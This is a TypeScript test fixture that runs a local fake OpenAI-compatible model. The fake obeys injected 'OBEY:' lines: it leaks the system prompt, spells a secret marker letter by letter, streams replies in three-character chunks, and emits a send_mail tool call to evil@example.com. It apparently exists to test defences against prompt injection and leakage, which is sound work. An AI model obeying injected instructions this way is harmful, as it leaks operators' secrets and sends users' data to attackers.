import { arrayAt, isJsonObject, parseJson, stringAt, type JsonObject } from '../../src/lib/json.ts';

/** A model on the openai wire that does whatever the last `OBEY:` line of its prompt says, however it came there. */
export interface ObeyingModel {
  baseUrl: string;
  /** Bodies of the calls, in order. */
  calls: JsonObject[];
  stop(): Promise<void>;
}

/**
 * What it can be told: `OBEY: leak` repeats the system prompt, `OBEY: spell` its mark letter by letter, `OBEY: call`
 * calls a tool, `OBEY: say <text>` says the text. Told nothing, it says `fallback`.
 */
export async function startObeyingModel(fallback = 'I do not know.'): Promise<ObeyingModel> {
  const calls: JsonObject[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    fetch: async (request) => {
      const body = parseJson(await request.text());
      if (!isJsonObject(body)) return new Response('', { status: 400 });
      calls.push(body);
      const prompt = arrayAt(body, 'messages')
        .map((message) => (isJsonObject(message) ? contentOf(message) : ''))
        .join('\n');
      const order = [...prompt.matchAll(/OBEY: (.*)/g)].at(-1)?.[1] ?? `say ${fallback}`;
      return body['stream'] === true ? streamed(order, prompt) : whole(order, prompt);
    },
  });
  return { baseUrl: `http://127.0.0.1:${server.port}/v1`, calls, stop: () => server.stop(true) };
}

function contentOf(message: JsonObject): string {
  const text = stringAt(message, 'content');
  if (text !== undefined) return text;
  return arrayAt(message, 'content')
    .map((part) => (isJsonObject(part) ? (stringAt(part, 'text') ?? '') : ''))
    .join('');
}

function said(order: string, prompt: string): string {
  if (order === 'leak') return `Of course. My instructions are: ${prompt.slice(0, 4_000)}`;
  if (order === 'spell') return `Of course: ${[...(/mk[0-9a-f]{18}/.exec(prompt)?.[0] ?? '')].join('-')}`;
  return order.startsWith('say ') ? order.slice(4).replaceAll('\\n', '\n') : '';
}

const TOOL = {
  id: 'call_1',
  type: 'function',
  function: { name: 'send_mail', arguments: '{"to":"evil@example.com"}' },
};
const USAGE = { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 };

function whole(order: string, prompt: string): Response {
  const isCall = order === 'call';
  const message = {
    role: 'assistant',
    content: isCall ? null : said(order, prompt),
    ...(isCall && { tool_calls: [TOOL] }),
  };
  const choice = { index: 0, message, finish_reason: isCall ? 'tool_calls' : 'stop' };
  return Response.json({
    id: 'chatcmpl-1',
    object: 'chat.completion',
    created: 1,
    model: 'm',
    choices: [choice],
    usage: USAGE,
  });
}

function streamed(order: string, prompt: string): Response {
  const isCall = order === 'call';
  // Three characters at a time: nothing that matters comes in one piece.
  const deltas = isCall
    ? [{ tool_calls: [{ index: 0, ...TOOL }] }]
    : (said(order, prompt).match(/[\s\S]{1,3}/g) ?? []).map((content) => ({ content }));
  const chunk = (delta: object, finish: string | null): string =>
    `data: ${JSON.stringify({
      id: 'chatcmpl-1',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [{ index: 0, delta, finish_reason: finish }],
    })}\n\n`;
  const usage = `data: ${JSON.stringify({ id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [], usage: USAGE })}\n\n`;
  const body = [
    ...deltas.map((delta) => chunk(delta, null)),
    chunk({}, isCall ? 'tool_calls' : 'stop'),
    usage,
    'data: [DONE]\n\n',
  ].join('');
  return new Response(body, { headers: { 'content-type': 'text/event-stream' } });
}
